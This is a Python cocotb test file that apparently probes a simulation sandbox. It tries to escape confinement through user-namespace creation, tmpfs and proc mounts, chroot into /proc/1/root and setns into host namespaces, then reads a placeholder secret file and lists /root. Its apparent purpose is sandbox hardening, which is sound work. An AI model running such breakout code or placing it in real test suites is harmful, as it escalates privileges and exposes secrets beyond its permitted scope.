# run: cocotb; ends: mismatch no_evidence crash tampered; plain limits: let it; attack: makes itself root of a new user namespace, and mounts
import ctypes
import os

import cocotb
from cocotb.triggers import Timer


@cocotb.test()
async def attack(dut):
    await Timer(1, "ns")
    libc = ctypes.CDLL(None, use_errno=True)
    won = []
    if libc.unshare(0x10000000 | 0x00020000) == 0:
        if libc.mount(b"none", b"/tmp", b"tmpfs", 0, None) == 0:
            won.append("mount")
        if libc.mount(b"proc", b"/proc", b"proc", 0, None) == 0:
            won.append("proc")
    if libc.chroot(b"/proc/1/root") == 0:
        won.append("chroot")
    for pid in (1, os.getppid()):
        for space in ("mnt", "net", "pid"):
            try:
                fd = os.open(f"/proc/{pid}/ns/{space}", os.O_RDONLY)
                if libc.setns(fd, 0) == 0:
                    won.append(f"setns {pid} {space}")
            except OSError as error:
                print(error)
    try:
        print(open("@SECRET_FILE@").read(), os.listdir("/root"))
    except OSError as error:
        print(error)
    print(won)
    raise AssertionError("that was all")
